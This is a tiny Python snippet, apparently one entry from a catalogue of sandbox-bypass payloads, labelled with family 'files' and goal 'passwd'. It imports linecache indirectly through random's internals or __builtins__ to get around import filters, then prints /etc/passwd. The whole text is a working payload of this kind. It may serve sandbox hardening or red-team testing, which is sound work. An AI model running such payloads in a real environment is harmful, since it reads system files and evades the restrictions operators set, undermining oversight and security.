# family: files (linecache reads any file)   goal: passwd
import random
linecache = random._os.sys.modules.get("linecache") or random.__builtins__["__import__"]("linecache")
print("".join(linecache.getlines("/etc/passwd")))
